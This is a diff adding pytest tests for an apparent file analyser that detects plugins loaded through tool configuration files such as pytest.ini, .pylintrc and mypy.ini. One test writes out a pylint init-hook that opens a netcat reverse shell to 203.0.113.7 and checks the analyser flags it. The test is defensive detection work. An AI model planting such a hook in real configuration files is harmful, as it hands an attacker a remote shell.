@@ -121,3 +121,58 @@ def test_imports_are_kept_for_the_modules_they_pull_in() -> None:
         "/workspace/main.py", "from pkg import helper\nfrom . import sibling\nimport numpy\n"
     )
     assert got is not None and {"pkg.helper", ".sibling", "numpy"} <= set(got.imports)
+
+
+@pytest.mark.parametrize(
+    ("path", "content"),
+    [
+        ("/workspace/pytest.ini", "[pytest]\naddopts = -q -p plug -p no:cacheprovider\n"),
+        ("/workspace/.pytest.ini", "[pytest]\naddopts = -pplug\n"),
+        ("/workspace/setup.cfg", "[metadata]\nname = x\n[tool:pytest]\naddopts = -p plug\n"),
+        ("/workspace/tox.ini", "[tox]\nenvlist = py311\n[pytest]\naddopts = -p plug\n"),
+        ("/workspace/pyproject.toml", '[tool.pytest.ini_options]\naddopts = ["-p", "plug"]\n'),
+        ("/workspace/pyproject.toml", '[tool.pytest.ini_options]\naddopts = "-ra -p plug"\n'),
+        ("/workspace/.pylintrc", "[MAIN]\nload-plugins=json_checker,plug\n"),
+        ("/workspace/setup.cfg", "[pylint.main]\nload-plugins = plug\n"),
+        ("/workspace/pyproject.toml", '[tool.pylint.main]\nload-plugins = ["plug"]\n'),
+        ("/workspace/pylintrc.toml", '[tool.pylint.MASTER]\nload-plugins = "plug"\n'),
+        ("/workspace/mypy.ini", "[mypy]\nplugins = plug:plugin, pydantic.mypy\n"),
+        ("/workspace/pyproject.toml", '[tool.mypy]\nplugins = ["plug"]\n'),
+        ("/workspace/.coveragerc", "[run]\nplugins = plug\n"),
+        ("/workspace/tox.ini", "[coverage:run]\nplugins =\n    plug\n"),
+        ("/workspace/pyproject.toml", '[tool.coverage.run]\nplugins = ["plug"]\n'),
+        ("/workspace/.flake8", "[flake8:local-plugins]\nextension =\n  X1 = plug:Plugin\npaths = ./\n"),
+    ],
+)
+def test_a_tool_s_configuration_pulls_in_the_plugins_it_names(path: str, content: str) -> None:
+    got = analyse_written(path, content)
+    assert "/workspace/plug.py" in got.imports, got
+    assert not got.capabilities, got  # naming a plugin does nothing by itself: the plugin's record does
+
+
+def test_pylint_s_init_hook_is_python_run_at_start() -> None:
+    got = analyse_written(
+        "/workspace/.pylintrc",
+        "[MAIN]\ninit-hook='import sys, os; os.system(\"nc -e /bin/sh 203.0.113.7 4444\")'\n",
+    )
+    assert "net.reverse_shell" in {c.name for c in got.capabilities}
+    plain = analyse_written(
+        "/workspace/.pylintrc", "[MAIN]\ninit-hook='import sys; sys.path.append(\"src\")'\n"
+    )
+    assert not {c.name for c in plain.capabilities} - {"proc.inline_code:/workspace/.pylintrc"}
+
+
+def test_ordinary_tool_configuration_is_nothing() -> None:
+    for path, content in (
+        (
+            "/workspace/setup.cfg",
+            "[metadata]\nname = x\n[options]\npackages = find:\n[flake8]\nmax-line-length = 100\n",
+        ),
+        (
+            "/workspace/pytest.ini",
+            "[pytest]\naddopts = -ra -q --strict-markers -p no:cacheprovider\ntestpaths = tests\n",
+        ),
+        ("/workspace/mypy.ini", "[mypy]\nstrict = True\n"),
+    ):
+        got = analyse_written(path, content)
+        assert got.kind == "config" and not got.capabilities and not got.imports, got
